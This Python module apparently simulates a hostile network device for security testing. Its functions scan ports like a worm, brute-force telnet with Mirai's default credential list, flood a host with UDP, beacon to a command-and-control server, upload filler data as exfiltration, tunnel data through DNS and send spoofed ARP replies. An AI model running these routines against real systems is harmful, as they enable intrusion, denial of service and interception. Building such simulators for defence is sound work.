"""What a hostile device does. A step is one packet, one connection or one login; the runner bounds their number."""

from collections.abc import Iterator
from itertools import batched, cycle
import os
import socket
import struct

from . import dns
from .machine import Machine
from .probes import Probes

LOGINS = (("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"), ("support", "support"))
DATAGRAM = 1400
ETH_ARP, ETH_IPV4, ETH_VLAN = 0x0806, 0x0800, 0x8100
ARP_REPLY = 2
SCAN_WIDTH = 16


def scan(_machine: Machine, probes: Probes, hosts: list[str], ports: list[int]) -> Iterator[bool]:
    """Connect to every port of every host, 16 at a time, as a worm looking for the next home does."""
    targets = [(host, port) for host in hosts for port in ports]
    for batch in batched(targets, SCAN_WIDTH, strict=False):
        probing = {f"{host} {port}": ["tcp", host, port] for host, port in batch}
        yield from probes.many(probing, 0.3).values()


def brute_force(_machine: Machine, probes: Probes, host: str, port: int = 23) -> Iterator[bool]:
    """Try the logins of Mirai on a telnet port, one connection a step."""
    for user, password in cycle(LOGINS):
        yield _login(probes, host, port, user, password)


def flood(_machine: Machine, probes: Probes, host: str, port: int = 9, burst: int = 100) -> Iterator[bool]:
    """Send bursts of UDP datagrams; answered is whether the kernel let them go."""
    target = probes.address(host, 1.0)
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        while True:
            try:
                for _ in range(burst):
                    sock.sendto(bytes(DATAGRAM), (target, port))
            except OSError:
                yield False
            else:
                yield True


def beacon(_machine: Machine, probes: Probes, host: str, port: int = 4444) -> Iterator[bool]:
    """Call a command-and-control server, say who is there, wait for an order."""
    while True:
        try:
            with probes.connect(host, port, 1.0) as sock:
                sock.sendall(b"here\n")
                answered = bool(sock.recv(64))
        except OSError:
            answered = False
        yield answered


def exfiltrate(_machine: Machine, probes: Probes, url: str, size: int = 65536) -> Iterator[bool]:
    """Upload `size` bytes a step."""
    while True:
        try:
            answered = probes.http(url, 2.0, "x" * size)["status"] == 200
        except OSError, ValueError:
            answered = False
        yield answered


def dns_tunnel(_machine: Machine, probes: Probes, domain: str) -> Iterator[bool]:
    """Carry data out in the labels of names that nobody has asked for before."""
    while True:
        try:
            answered = bool(probes.resolve(f"{os.urandom(20).hex()}.{os.urandom(12).hex()}.{domain}", dns.A, 0.5))
        except OSError, ValueError:
            answered = False
        yield answered


def arp_spoof(
    machine: Machine, _probes: Probes, claim: str, victim: str, victim_mac: str, *, vlan: bool = False
) -> Iterator[bool]:
    """Tell the victim that `claim` (an IPv4 address) is here; `vlan` hides the frame behind a priority tag (VLAN 0)."""
    own, theirs = (bytes.fromhex(mac.replace(":", "")) for mac in (machine.addresses()["mac"], victim_mac))
    tag = struct.pack("!HH", ETH_VLAN, 0) if vlan else b""
    arp = struct.pack("!HHBBH", 1, ETH_IPV4, 6, 4, ARP_REPLY)
    body = own + socket.inet_aton(claim) + theirs + socket.inet_aton(victim)
    frame = theirs + own + tag + struct.pack("!H", ETH_ARP) + arp + body
    while True:
        machine.send_raw(frame.hex())
        yield True


def _login(probes: Probes, host: str, port: int, user: str, password: str) -> bool:
    try:
        with probes.connect(host, port, 1.0) as sock:
            for answer in (user, password):
                if not sock.recv(64):
                    return False
                sock.sendall(answer.encode() + b"\r\n")
            return bool(sock.recv(64))
    except OSError:
        return False
